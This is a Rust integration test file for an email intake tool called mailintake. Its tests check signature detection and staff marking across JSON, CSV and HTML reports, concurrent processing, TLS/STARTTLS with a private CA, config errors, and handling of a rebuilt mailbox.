    assert!(!dom.contains("<b>Lovelace</b>"));
    // The checked answer carries the mark, the reason in words and the text
    // as written (escaped, shown open); the other answers carry none.
    assert!(dom.contains("1 application with answers to check"), "{dom}");
    let cells: Vec<&str> = rows[1].split("<td").skip(1).collect();
    let (name, region, motivation) = (cells[3], cells[4], cells[6]);
    for unchecked in [name, region] {
        assert!(
            unchecked.starts_with(" class=\"answer\">") && !unchecked.contains("check"),
            "{unchecked}"
        );
    }
    assert!(
        motivation.starts_with(" class=\"answer checked\">Line one\n\nLine two<"),
        "{motivation}"
    );
    assert!(
        motivation.contains("<span class=\"check-badge\" title=\"signature-guessed\">check</span>"),
        "{motivation}"
    );
    assert!(
        motivation.contains("guessed a signature and cut it"),
        "{motivation}"
    );
    assert!(motivation.contains("<details open=\"\">"), "{motivation}");
    assert!(
        motivation.contains("Line two\n\nAda &lt;i&gt;Lovelace&lt;/i&gt;\nAnalytical Engines"),
        "as written, as text: {motivation}"
    );
    assert!(!dom.contains("<i>Lovelace</i>"));
    let attention = dom.split("id=\"attention\"").nth(1).unwrap();
    assert!(
        attention.contains(&robot) && attention.contains(">robot<"),
        "{attention}"
    );
    // And a screenshot, for a person to look at.
    let shot = intake.dir.path().join("report.png");
    let out = browser(&[&format!("--screenshot={}", shot.display())]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        std::fs::metadata(&shot).unwrap().len() > 10_000,
        "an empty screenshot"
    );
}

/// Stores a new version of `who`'s current answer to `question`, same value,
/// marked as read with a guessed signature cut, through the store API.
async fn mark_checked(intake: &Intake, who: &str, question: &str, as_written: &str) {
    use mailintake::answers::{Check, CheckReason};
    use mailintake::store;
    let s = store::Store::connect(&intake.db_url()).await.unwrap();
    let pool = sqlx::SqlitePool::connect(&intake.db_url()).await.unwrap();
    let (app, value, message): (i64, String, i64) = sqlx::query_as(
        "SELECT a.application_id, a.value, a.message_id FROM answers a
         JOIN applications p ON p.id = a.application_id
         WHERE p.email = ? AND a.question_id = ? ORDER BY a.id DESC LIMIT 1",
    )
    .bind(who.to_lowercase())
    .bind(question)
    .fetch_one(&pool)
    .await
    .unwrap();
    let check = Check {
        reason: CheckReason::SignatureGuessed,
        as_written: as_written.to_string(),
    };
    let mut tx = s.begin().await.unwrap();
    let answer = mailintake::domain::NewAnswer {
        question_id: question.to_string(),
        value,
        check: Some(check),
        prompt: None,
    };
    tx.insert_answer(app, &answer, message, chrono::Utc::now())
        .await
        .unwrap();
    tx.commit().await.unwrap();
}

/// An applicant's company signature, written without a `-- ` line, under
/// the last numbered answer: the answer is stored without it, marked for
/// staff with the text as written, in every report format; a later clean
/// reply of the same answer clears the mark.
#[tokio::test(flavor = "multi_thread")]
async fn a_guessed_signature_is_cut_and_marked_for_staff_in_every_report() {
    let intake = Intake::new();
    let who = applicant(&intake);
    let q = ask(&intake, &who, "Apply").await;
    let signature = [
        "Ada Lovelace",
        "Senior Analyst",
        "Analytical Engines Ltd",
        "+44 20 7946 0958",
        "https://engines.example.com",
    ];
    let answer = reply(
        &who,
        "Ada Lovelace",
        &q,
        &format!(
            "1. Ada Lovelace\n2. Europe\n3. English\n4. To help new leaders grow.\n5. yes\n6. A colleague\n\n{}",
            signature.join("\n")
        ),
        &[],
    );
    intake.receive(&who, &answer).await;
    intake.once();
    let got = wait_mails(&intake, &who, 2);
    assert!(
        got[1].body.contains("is complete") && !got[1].body.contains("Senior Analyst"),
        "the confirmation shows the answer without the signature:\n{}",
        got[1].body
    );

    // JSON
    let app = intake.application(&who).unwrap();
    assert_eq!(app["status"], "complete");
    assert_eq!(app["answers"]["heard"], "A colleague", "{app:#}");
    let checks = app["checks"].as_object().unwrap();
    assert_eq!(
        checks.keys().collect::<Vec<_>>(),
        vec!["heard"],
        "only the guessed answer is marked: {app:#}"
    );
    assert_eq!(checks["heard"]["reason"], "signature-guessed", "{app:#}");
    let as_written = checks["heard"]["as_written"].as_str().unwrap();
    assert!(as_written.contains("A colleague"), "{as_written}");
    for line in signature {
        assert!(as_written.contains(line), "{line:?} not in {as_written:?}");
    }

    // CSV
    let out = intake.cmd(&["report", "--format", "csv"]);
    assert!(out.status.success());
    let mut rd = csv::Reader::from_reader(out.stdout.as_slice());
    let header = rd.headers().unwrap().clone();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let row = rd.records().next().unwrap().unwrap();
    assert_eq!(&row[col("email")], who.as_str());
    assert_eq!(&row[col("check")], "heard");
    assert_eq!(
        &row[col("check_detail")],
        format!("heard (signature-guessed): {as_written}").as_str()
    );
    assert_eq!(&row[col("heard")], "A colleague", "the heard column");

    // HTML
    let html_path = intake.dir.path().join("report.html");
    let out = intake.cmd(&[
        "report",
        "--format",
        "html",
        "--output",
        html_path.to_str().unwrap(),
    ]);
    assert!(out.status.success());
    let html = std::fs::read_to_string(&html_path).unwrap();
    assert!(
        html.contains("1 application with answers to check"),
        "{html}"
    );
    let row = html
        .split("<tr>")
        .find(|r| r.contains(&who))
        .unwrap()
        .split("</tr>")
        .next()
        .unwrap();
    let cells: Vec<&str> = row.split("<td").skip(1).collect();
    let heard = cells[3 + 5];
    assert!(
        heard.starts_with(" class=\"answer checked\">A colleague<"),
        "{heard}"
    );
    assert!(heard.contains(">check</span>"), "{heard}");
    assert!(heard.contains("Analytical Engines Ltd"), "{heard}");
    assert_eq!(
        row.matches("check-badge").count(),
        1,
        "one marked answer: {row}"
    );

    // The same answer again, cleanly: the mark goes, the history stays.
    let clean = reply(&who, "Ada Lovelace", &got[1], "6. A colleague", &[]);
    intake.receive(&who, &clean).await;
    intake.once();
    wait_mails(&intake, &who, 3);
    let app = intake.application(&who).unwrap();
    assert_eq!(app["answers"]["heard"], "A colleague");
    assert_eq!(app["checks"], serde_json::json!({}), "{app:#}");
    let pool = sqlx::SqlitePool::connect(&intake.db_url()).await.unwrap();
    let marks: Vec<Option<String>> = sqlx::query_scalar(
        "SELECT check_reason FROM answers WHERE question_id = 'heard' ORDER BY id",
    )
    .fetch_all(&pool)
    .await
    .unwrap();
    assert_eq!(marks, vec![Some("signature-guessed".to_string()), None]);
}

#[tokio::test(flavor = "multi_thread")]
async fn two_processes_at_once_still_answer_once() {
    two_processes_at_once(Intake::new()).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn two_processes_at_once_still_answer_once_on_postgresql() {
    two_processes_at_once(Intake::with(durability::on_postgres)).await;
}

async fn two_processes_at_once(intake: Intake) {
    let mut people = Vec::new();
    for _ in 0..5 {
        let who = applicant(&intake);
        intake
            .receive(
                &who,
                &mail(&who, "Ada", &intake.team, "Hello", "", "How do I apply?"),
            )
            .await;
        people.push(who);
    }
    // A daemon and a cron job on the same mailbox and database, racing.
    let run = |intake: &Intake| {
        std::process::Command::new(env!("CARGO_BIN_EXE_mailintake"))
            .arg("--config")
            .arg(&intake.config)
            .arg("once")
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap()
    };
    let a = run(&intake);
    let b = run(&intake);
    let a = a.wait_with_output().unwrap();
    let b = b.wait_with_output().unwrap();
    // Neither fails: they queue on the database, and each message and
    // each reply goes to whichever gets it first.
    for out in [&a, &b] {
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    for who in &people {
        wait_mails(&intake, who, 1);
    }
    std::thread::sleep(std::time::Duration::from_secs(2));
    for who in &people {
        assert_eq!(
            mails_to(&intake, who).len(),
            1,
            "{who} answered more than once"
        );
    }
}

/// The production settings: TLS and STARTTLS, SMTP with a login, here with a
/// private CA.
#[tokio::test(flavor = "multi_thread")]
async fn tls_and_starttls_to_servers_with_a_private_ca() {
    let stack = common::MailStack::get();
    let ca = stack.ca_file.display().to_string();
    let cases = [
        ("tls", stack.imaps_port, "tls", stack.submissions_port),
        (
            "starttls",
            stack.imap_port,
            "starttls",
            stack.submission_port,
        ),
    ];
    for (imap_security, imap_port, smtp_security, smtp_port) in cases {
        let intake = Intake::with(|c| {
            *c = c
                .replace(
                    &format!("host = \"127.0.0.1\"\nport = {}\nsecurity = \"none\"", stack.imap_port),
                    &format!("host = \"localhost\"\nport = {imap_port}\nsecurity = \"{imap_security}\"\nca_file = \"{ca}\""),
                )
                .replace(
                    &format!("host = \"127.0.0.1\"\nport = {}\nsecurity = \"none\"", stack.smtp_port),
                    &format!(
                        "host = \"localhost\"\nport = {smtp_port}\nsecurity = \"{smtp_security}\"\nca_file = \"{ca}\"\nusername = \"{}\"\npassword = \"{}\"",
                        "mailintake@example.org",
                        common::PASSWORD
                    ),
                );
        });
        let text = std::fs::read_to_string(&intake.config).unwrap();
        assert_eq!(text.matches("ca_file").count(), 2, "{text}");
        let check = intake.cmd(&["check"]);
        assert!(
            check.status.success(),
            "{imap_security}: {}",
            String::from_utf8_lossy(&check.stderr)
        );
        let who = applicant(&intake);
        intake
            .receive(
                &who,
                &mail(&who, "Ada", &intake.team, "Hello", "", "How do I apply?"),
            )
            .await;
        intake.once();
        let got = wait_mails(&intake, &who, 1);
        assert!(
            got[0].body.contains("1. What is your name?"),
            "{imap_security}"
        );

        // Without the CA, the server is not trusted: a clear TLS error.
        std::fs::write(
            &intake.config,
            text.replace(&format!("ca_file = \"{ca}\"\n"), ""),
        )
        .unwrap();
        let out = intake.cmd(&["check"]);
        assert!(
            !out.status.success(),
            "{imap_security}: an untrusted server was accepted"
        );
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains("TLS") && err.to_lowercase().contains("certificate"),
            "{imap_security}: {err}"
        );
        assert!(!err.contains(common::PASSWORD));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_wrong_ca_file_is_a_config_error_naming_the_key() {
    let intake = Intake::with(|c| {
        *c = c.replacen(
            "security = \"none\"\n",
            "security = \"none\"\nca_file = \"no-such-ca.pem\"\n",
            1,
        );
    });
    let out = intake.cmd(&["check"]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("mailintake.toml")
            && err.contains("imap.ca_file")
            && err.contains("no-such-ca.pem"),
        "{err}"
    );
}

/// A mailbox rebuilt by the server (new UIDVALIDITY, every UID new) is not
/// answered again: the mail is known by its Message-ID.
#[tokio::test(flavor = "multi_thread")]
async fn a_rebuilt_mailbox_with_new_uids_is_not_answered_again() {
    let intake = Intake::new();
    let who = hello(&intake).await;
    intake.once();
    wait_mails(&intake, &who, 1);
    let pool = sqlx::SqlitePool::connect(&intake.db_url()).await.unwrap();
    let before: i64 = sqlx::query_scalar("SELECT MAX(uidvalidity) FROM messages")
        .fetch_one(&pool)
        .await
        .unwrap();
    // Drop Dovecot's UID list and indexes: it numbers everything afresh.
    let md = intake
        .stack
        .dir
        .join("mail")
        .join(&intake.team)
        .join("Maildir");
    // UIDVALIDITY is a time in seconds, and a Dovecot process that still
    // holds the old index can write it back: rebuild until it changes.
    let mut after = before;
    for _ in 0..5 {
        for e in std::fs::read_dir(&md).unwrap().flatten() {
            let name = e.file_name().to_string_lossy().into_owned();
            if name.starts_with("dovecot") {
                let _ = std::fs::remove_file(e.path());
            }
        }
        std::thread::sleep(std::time::Duration::from_millis(1100));
        intake.once();
        after = sqlx::query_scalar("SELECT MAX(uidvalidity) FROM messages")
            .fetch_one(&pool)
            .await
            .unwrap();
        if after != before {
            break;
        }
    }
    assert_ne!(
        before, after,
        "the server kept its UIDVALIDITY: the test proves nothing"
    );
    // The delivery copy of the reply (from the team) is rebuilt too.
    let outcomes: Vec<String> =
        sqlx::query_scalar("SELECT outcome FROM messages WHERE from_addr <> ? ORDER BY id")
            .bind(&intake.team)
            .fetch_all(&pool)
            .await
            .unwrap();
    assert_eq!(outcomes, vec!["questions", "duplicate"]);
    std::thread::sleep(std::time::Duration::from_secs(1));
    assert_eq!(mails_to(&intake, &who).len(), 1);
}
